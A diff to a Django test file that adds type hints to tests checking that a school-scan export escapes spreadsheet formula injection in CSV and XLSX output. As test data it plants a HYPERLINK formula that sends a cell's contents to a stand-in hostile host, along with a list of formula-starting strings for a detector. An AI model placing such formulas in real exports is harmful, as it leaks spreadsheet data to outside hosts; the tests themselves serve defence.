@@ -4,22 +4,27 @@ from __future__ import annotations
 
 import csv
 import io
-from typing import Any
+from typing import TYPE_CHECKING
 
 import pytest
+from django.test import Client
 from django.urls import reverse
 from openpyxl import load_workbook
 
-from conftest import PASSWORD
+from conftest import PASSWORD, World
 from plg.organisations.models import Aanstelling, Functie, School
 from plg.scans import services
+from plg.scans.export import Cell
 from plg.scans.tests.conftest import answer
+
+if TYPE_CHECKING:
+    from django.test.client import _MonkeyPatchedWSGIResponse as TestResponse
 
 TITLE = '=HYPERLINK("https://kwaad.example/?"&A1,"Klik hier")'
 NAMES = ["+32 Plus", "-Min", "@Apenstaart", "\tTab", "\rTerug", "=1+1"]
 
 
-def _waves(world: Any) -> None:
+def _waves(world: World) -> None:
     """De Regenboog: an earlier wave answered high, then the planted title answered lower (a
     negative difference); schools whose names start a formula, supported by the advisor."""
     for title, value in (("Eerder", 4), (TITLE, 2)):
@@ -34,7 +39,7 @@ def _waves(world: Any) -> None:
         )
 
 
-def _export(client: Any, world: Any, formaat: str) -> Any:
+def _export(client: Client, world: World, formaat: str) -> TestResponse:
     _waves(world)
     client.login(username=world.advisor.email, password=PASSWORD)
     response = client.get(reverse("begeleiding_scans_export", args=[formaat]))
@@ -42,11 +47,11 @@ def _export(client: Any, world: Any, formaat: str) -> Any:
     return response
 
 
-def _csv_rows(response: Any) -> list[list[str]]:
+def _csv_rows(response: TestResponse) -> list[list[str]]:
     return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
 
 
-def test_no_xlsx_cell_is_a_formula_and_the_texts_stay_intact(client, world):
+def test_no_xlsx_cell_is_a_formula_and_the_texts_stay_intact(client: Client, world: World) -> None:
     sheet = load_workbook(io.BytesIO(_export(client, world, "xlsx").content)).active
     cells = [cell for row in sheet.iter_rows() for cell in row]
     assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
@@ -56,7 +61,7 @@ def test_no_xlsx_cell_is_a_formula_and_the_texts_stay_intact(client, world):
     assert {name.replace("\r", "\n") for name in NAMES} <= texts
 
 
-def test_figures_stay_numbers_in_the_xlsx(client, world):
+def test_figures_stay_numbers_in_the_xlsx(client: Client, world: World) -> None:
     sheet = load_workbook(io.BytesIO(_export(client, world, "xlsx").content)).active
     row = next(r for r in sheet.iter_rows(values_only=True) if r[0] == "De Regenboog")
     assert row[3] == 5
@@ -65,7 +70,7 @@ def test_figures_stay_numbers_in_the_xlsx(client, world):
     assert any(v < 0 for v in figures)  # the difference with the earlier wave
 
 
-def test_csv_cells_that_would_start_a_formula_are_escaped(client, world):
+def test_csv_cells_that_would_start_a_formula_are_escaped(client: Client, world: World) -> None:
     rows = _csv_rows(_export(client, world, "csv"))
     titles = {row[2] for row in rows[1:]}
     assert "'" + TITLE in titles
@@ -75,20 +80,20 @@ def test_csv_cells_that_would_start_a_formula_are_escaped(client, world):
 
 
 @pytest.mark.parametrize("text", ["=SUM(A1)", "+1", "-A1", "@A1", "\t=1", "\r=1", "|x", "%x"])
-def test_one_rule_decides_what_a_spreadsheet_would_run(text):
+def test_one_rule_decides_what_a_spreadsheet_would_run(text: str) -> None:
     from plg.scans.export import is_formula
 
     assert is_formula(text)
 
 
 @pytest.mark.parametrize("value", ["De Regenboog", "-0,25", "3,5", "12", "", 3.5, -0.25, 5, None])
-def test_plain_texts_and_numbers_are_never_taken_for_a_formula(value):
+def test_plain_texts_and_numbers_are_never_taken_for_a_formula(value: Cell) -> None:
     from plg.scans.export import is_formula
 
     assert not is_formula(value)
 
 
-def test_the_csv_opens_in_belgian_excel(client, world):
+def test_the_csv_opens_in_belgian_excel(client: Client, world: World) -> None:
     response = _export(client, world, "csv")
     assert response.content.startswith("\ufeff".encode())  # UTF-8 with BOM
     assert response["Content-Type"] == "text/csv; charset=utf-8"
